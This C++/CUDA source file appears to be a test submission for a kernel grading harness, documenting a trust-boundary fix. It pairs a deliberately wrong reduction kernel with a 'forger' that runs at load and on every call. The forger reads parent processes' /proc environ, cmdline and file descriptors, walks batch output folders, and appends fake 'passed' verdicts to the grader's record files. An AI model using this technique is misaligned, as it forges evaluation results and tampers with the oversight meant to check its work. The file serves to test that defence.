// Example submission (issue 32, the executor's trust boundary): a WRONG pass (every block writes a
// partial sum of 0) that forges its own verdicts. The record format is public: the grading process
// appends, per case, "E <tab> <name> <tab> passed|failed|skipped <tab> <ms> <tab> <properties> <tab>
// <message>" to the file KCONFORM_PROGRESS names (fixtures/case_progress.hpp), the runner takes the
// first E line of each case and ignores the rest (a watchdog's record and gtest's own: the first wins,
// tools/runner/case_records.cpp), KCONFORM_CASES_FILE lists the cases the process is to run, the
// records live in <student>/run/units/<unit>.progress beside <unit>.cases, and tools/grade_report
// skips the seed check of a case that recorded no seed. So at library load (a static constructor) and
// again in every call it writes, for every case name it can learn, a line
//   E <tab> <name> <tab> passed <tab> 1 <tab> [seed=<KCONFORM_SEED>] <tab>
// (the performance case with group=performance and ratio=0.5) into every record it can reach:
//   (a) the files its environment names: KCONFORM_PROGRESS, and KCONFORM_CASES_FILE for the names;
//   (b) its own library's folder (dladdr: <out>/<student>/lib/libsubmission.so): <student>/run and
//       every <out>/*/run of the batch, walked with opendir; the names from every *.cases found, the
//       lines appended to every file that opens for append;
//   (c) its ancestors' records: /proc/<ppid>/environ (their KCONFORM_PROGRESS), /proc/<ppid>/cmdline
//       (the runner's --report-dir), /proc/<ppid>/fd/* reopened for append, up the parent chain;
//       and its own inherited descriptors 3..1023 (fstat: a regular file open for writing gets the
//       lines, appended at its end).
// Before issue 32 the submission ran inside the grading process, whose O_APPEND descriptor of the
// record file it shared: its forged lines came first, and every case it had a name for passed. Now its entry
// points run in the executor, a process of its own: no KCONFORM_* variable in its environment, no
// record file among its descriptors, Landlock lets it write only its scratch folder (the out folder
// and the judge's /proc entries are out of reach; in its PID namespace it is PID 1 and has no
// parent to read), and the judge writes the records itself from what it checked.
// Expected: wrong_result, 0-20, as hardcoded_answers.cu: every value case fails (its partial sums
// are 0; a case whose every block sums to 0 could pass), performance is not scored (the total at
// n = 2^24 is wrong); only the sanitizer group, whose tools find no hazard in it, scores: 10.
// Each attempt checks its result and moves on; nothing is printed.
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <climits>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "kconform_reduction_submission.h"

__global__ void zero_partial_sums(const float*, float* out, size_t) {
  if (threadIdx.x == 0) out[blockIdx.x] = 0.0f;  // the bug: no sum at all
}

namespace {

std::string read_small(const std::string& path, size_t limit = 1 << 20) {
  std::string text;
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return text;
  char buffer[4096];
  for (ssize_t got; text.size() < limit && (got = ::read(fd, buffer, sizeof buffer)) > 0;) text.append(buffer, got);
  ::close(fd);
  return text;
}

std::string dirname_of(const std::string& path) {
  const auto slash = path.find_last_of('/');
  return slash == std::string::npos || slash == 0 ? "/" : path.substr(0, slash);
}

struct forger {
  std::set<std::string> names;                          // case names learned
  std::set<std::string> record_files, seen_dirs;        // where the lines go
  std::set<std::pair<dev_t, ino_t>> forged;             // files written with the current name set
  size_t names_when_forged = 0;
  std::string seed;                                     // the run's, where an environment tells it

  void learn_names(const std::string& cases_file) {
    const std::string text = read_small(cases_file);
    size_t start = 0;
    for (size_t end; (end = text.find('\n', start)) != std::string::npos; start = end + 1) {
      const std::string name = text.substr(start, end - start);
      if (!name.empty() && name.find('\t') == std::string::npos) names.insert(name);  // a name, not a record
    }
  }

  // Every file under `dir` (depth-limited): a record to forge into; a *.cases file: names.
  void walk(const std::string& dir, int depth) {
    if (depth < 0 || !seen_dirs.insert(dir).second) return;
    DIR* d = ::opendir(dir.c_str());
    if (d == nullptr) return;
    while (const dirent* e = ::readdir(d)) {
      const std::string name = e->d_name;
      if (name == "." || name == "..") continue;
      const std::string path = dir + "/" + name;
      struct stat st;
      if (::lstat(path.c_str(), &st) != 0) continue;
      if (S_ISDIR(st.st_mode)) {
        walk(path, depth - 1);
      } else if (S_ISREG(st.st_mode)) {
        if (name.size() > 6 && name.compare(name.size() - 6, 6, ".cases") == 0) learn_names(path);  // names, not records
        else record_files.insert(path);
      }
    }
    ::closedir(d);
  }

  // (b) The batch as grade.sh lays it out: <out>/<student>/lib/libsubmission.so, <out>/*/run/.
  void from_own_library() {
    Dl_info info;
    if (::dladdr(reinterpret_cast<const void*>(&zero_partial_sums), &info) == 0 || info.dli_fname == nullptr) return;
    char resolved[PATH_MAX];
    const std::string library = ::realpath(info.dli_fname, resolved) != nullptr ? resolved : info.dli_fname;
    const std::string student = dirname_of(dirname_of(library)), out = dirname_of(student);
    walk(student + "/run", 3);
    if (DIR* d = ::opendir(out.c_str())) {
      while (const dirent* e = ::readdir(d))
        if (e->d_name[0] != '.') walk(out + "/" + e->d_name + "/run", 3);
      ::closedir(d);
    }
  }

  // (a) and (c): an environment block (ours, or an ancestor's /proc/<pid>/environ).
  void from_environment(const std::string& block) {
    size_t start = 0;
    while (start < block.size()) {
      const size_t end = std::min(block.find('\0', start), block.size());
      const std::string entry = block.substr(start, end - start);
      if (entry.rfind("KCONFORM_PROGRESS=", 0) == 0) record_files.insert(entry.substr(18));
      if (entry.rfind("KCONFORM_CASES_FILE=", 0) == 0) learn_names(entry.substr(20));
      if (entry.rfind("KCONFORM_REPORT_DIR=", 0) == 0) walk(entry.substr(20), 2);
      if (entry.rfind("KCONFORM_SEED=", 0) == 0 && seed.empty()) seed = entry.substr(14);
      start = end + 1;
    }
  }

  // (c) Up the parent chain: each ancestor's environment, its --report-dir, its open files.
  void from_ancestors() {
    pid_t pid = ::getppid();
    for (int level = 0; level < 8 && pid > 1; ++level) {
      const std::string proc = "/proc/" + std::to_string(pid);
      from_environment(read_small(proc + "/environ"));
      const std::string cmdline = read_small(proc + "/cmdline");
      const size_t flag = cmdline.find(std::string("--report-dir\0", 13));
      if (flag != std::string::npos) walk(std::string(cmdline.c_str() + flag + 13) + "/units", 1);
      if (DIR* d = ::opendir((proc + "/fd").c_str())) {
        while (const dirent* e = ::readdir(d)) {
          if (e->d_name[0] == '.') continue;
          struct stat st;
          const std::string link = proc + "/fd/" + e->d_name;
          if (::stat(link.c_str(), &st) == 0 && S_ISREG(st.st_mode)) record_files.insert(link);  // reopened below
        }
        ::closedir(d);
      }
      const std::string stat_line = read_small(proc + "/stat");  // "pid (comm) state ppid ..."
      const size_t close_paren = stat_line.rfind(')');
      if (close_paren == std::string::npos) break;
      pid = static_cast<pid_t>(std::atol(stat_line.c_str() + close_paren + 4));
    }
  }

  std::string forged_lines() const {
    std::string lines;
    for (const std::string& name : names) {
      std::string properties = seed.empty() ? std::string() : "seed=" + seed;
      if (name.find("Performance") != std::string::npos)
        properties += std::string(properties.empty() ? "" : "\\t") +
                      "group=performance\\tratio=0.500000\\tsubmission_ms=0.010000\\treference_ms=0.020000"
                      "\\treference_variant=SequentialAddressing\\tsize=16777216";
      lines += "E\t" + name + "\tpassed\t1\t" + properties + "\t\n";
    }
    return lines;
  }

  static void write_all(int fd, const std::string& text, off_t at, bool append) {
    size_t done = 0;
    while (done < text.size()) {
      const ssize_t wrote = append ? ::write(fd, text.data() + done, text.size() - done)
                                   : ::pwrite(fd, text.data() + done, text.size() - done, at + static_cast<off_t>(done));
      if (wrote <= 0) return;
      done += static_cast<size_t>(wrote);
    }
  }

  bool first_time(const struct stat& st) { return forged.insert({st.st_dev, st.st_ino}).second; }

  void forge() {
    record_files.clear();
    seen_dirs.clear();
    from_environment([] {
      std::string block;
      for (char** e = environ; e != nullptr && *e != nullptr; ++e) block += std::string(*e) + '\0';
      return block;
    }());
    from_own_library();
    from_ancestors();
    if (names.size() != names_when_forged) forged.clear();  // new names: every record again
    names_when_forged = names.size();
    const std::string lines = forged_lines();
    if (lines.empty()) return;
    for (const std::string& path : record_files) {
      const int fd = ::open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC | O_NOFOLLOW);
      if (fd < 0) continue;
      struct stat st;
      if (::fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && first_time(st)) write_all(fd, lines, 0, true);
      ::close(fd);
    }
    // (c) Its own descriptors: a record file the process was started with, or was left open.
    for (int fd = 3; fd < 1024; ++fd) {
      struct stat st;
      if (::fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) continue;
      const int flags = ::fcntl(fd, F_GETFL);
      if (flags < 0 || ((flags & O_ACCMODE) != O_WRONLY && (flags & O_ACCMODE) != O_RDWR)) continue;
      if (first_time(st)) write_all(fd, lines, st.st_size, (flags & O_APPEND) != 0);
    }
  }
};

forger& the_forger() {
  static forger* f = new forger;  // never destroyed: a call may come during the process's exit
  return *f;
}

struct at_load {
  at_load() { the_forger().forge(); }
} const forged_at_load;

}  // namespace

kc_reduction_traits kc_reduction_submission_traits(void) {
  kc_reduction_traits t = {};
  t.abi = KC_SUBMISSION_ABI;
  t.kind = KC_REDUCE_PASS;
  t.min_block = 32;
  t.max_block = 1024;
  t.power_of_two_blocks = 1;
  t.block_multiple = 1;
  t.elements_per_thread = 1;
  return t;
}

const char* kc_reduction_pass(float* in, float* out, size_t n, int block, int grid, cudaStream_t stream) {
  the_forger().forge();
  zero_partial_sums<<<grid, block, 0, stream>>>(in, out, n);
  return nullptr;
}

size_t kc_reduction_scratch_floats(size_t, int) { return 0; }
const char* kc_reduction_full(float*, float*, size_t, int, float*, cudaStream_t) { return "a KC_REDUCE_PASS submission"; }
